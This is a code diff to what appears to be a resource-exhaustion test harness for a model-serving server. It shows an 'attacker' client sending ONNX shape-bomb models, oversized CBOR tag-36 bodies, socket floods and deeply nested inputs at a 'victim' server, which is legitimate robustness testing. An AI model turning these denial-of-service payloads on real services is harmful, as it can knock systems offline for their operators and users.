@@ -325,8 +325,8 @@ def _shape_bomb_nodes(side: int, out: str) -> list[Any]:
 
 def constant_shape_bomb(side: int) -> bytes:
     """A side x side tensor from Constant(value_ints=...) -> ConstantOfShape, summed."""
-    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [])
-    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [])
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
     nodes = [*_shape_bomb_nodes(side, "total"), helper.make_node("Add", ["total", "x"], ["y"])]
     return _model(helper.make_graph(nodes, "constant_shape", [x], [y]))
 
@@ -337,8 +337,8 @@ def function_shape_bomb(side: int) -> bytes:
     function = helper.make_function(
         "local", "Bomb", ["a"], ["b"], nodes, [helper.make_opsetid("", 17)]
     )
-    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [])
-    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [])
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
     graph = helper.make_graph(
         [helper.make_node("Bomb", ["x"], ["y"], domain="local")], "fn", [x], [y]
     )
@@ -392,14 +392,15 @@ class Sizes:
     seconds: float
     flood_sockets: int
     tag36_mib: int
+    tag36_count: int
     nested_depth: int
     matmul: tuple[int, int]
     quote_seconds: float
 
 
-QUICK = Sizes(seconds=3.0, flood_sockets=1500, tag36_mib=2, nested_depth=20,
+QUICK = Sizes(seconds=3.0, flood_sockets=1500, tag36_mib=2, tag36_count=1, nested_depth=20,
               matmul=(8000, 1000), quote_seconds=8.0)  # fmt: skip
-FULL = Sizes(seconds=10.0, flood_sockets=4000, tag36_mib=16, nested_depth=24,
+FULL = Sizes(seconds=10.0, flood_sockets=4000, tag36_mib=16, tag36_count=2, nested_depth=24,
              matmul=(12000, 1000), quote_seconds=20.0)  # fmt: skip
 
 
@@ -433,7 +434,7 @@ def attack_tag36(ctx: Context) -> None:
     text = "Content-Type: text/plain\n\n" + "a" * (ctx.sizes.tag36_mib * MiB)
     body = cbor2.dumps({"model_id": cbor2.CBORTag(36, text), "inputs": []})
     statuses = []
-    while time.monotonic() < ctx.deadline and len(statuses) < 20:
+    while time.monotonic() < ctx.deadline and len(statuses) < ctx.sizes.tag36_count:
         statuses.append(_post(ctx, 1, "/run", body, ctx.server.attacker))
     ctx.note.append(f"{len(statuses)} x {ctx.sizes.tag36_mib} MiB: {statuses[:1]}")
 
@@ -539,11 +540,11 @@ def attack_expand(ctx: Context) -> None:
 
 
 def attack_constant_shape(ctx: Context) -> None:
-    _upload_and_run(ctx, constant_shape_bomb(16384), np.float32(1.0))
+    _upload_and_run(ctx, constant_shape_bomb(16384), np.ones(1, np.float32))
 
 
 def attack_function_shape(ctx: Context) -> None:
-    _upload_and_run(ctx, function_shape_bomb(16384), np.float32(1.0))
+    _upload_and_run(ctx, function_shape_bomb(16384), np.ones(1, np.float32))
 
 
 def attack_nested(ctx: Context) -> None:
@@ -717,7 +718,8 @@ class Bench:
         self.server.start()
         self.monitor.watch(self.server.proc.pid if self.server.proc else None)
         with self.server.connect(self.server.owner) as owner:
-            owner.upload_model(victim_model(), model_id="victim", visibility="public")
+            if "victim" not in {m.model_id for m in owner.list_models()}:  # kept from a restart
+                owner.upload_model(victim_model(), model_id="victim", visibility="public")
         info = {"ports": list(self.server.ports), "key": self.server.user}
         self.info.with_suffix(".tmp").write_text(json.dumps(info))
         self.info.with_suffix(".tmp").replace(self.info)
@@ -851,7 +853,13 @@ def main() -> int:
             bench.start_server()
             bench.baseline()
             for attack in wanted:
-                rows.append(bench.row(attack))
+                try:
+                    rows.append(bench.row(attack))
+                except Exception as exc:  # the harness itself failed (e.g. no restart): say so
+                    note = f"harness: {type(exc).__name__}: {str(exc)[:100]}"
+                    rows.append(Row(attack.name, float("nan"), -1, 0.0, 0.0, "FAIL", note))
+                    with contextlib.suppress(Exception):
+                        bench.restart()
                 r = rows[-1]
                 print(f"{r.attack}: {r.verdict} ({r.note})", flush=True)
                 time.sleep(0.5)
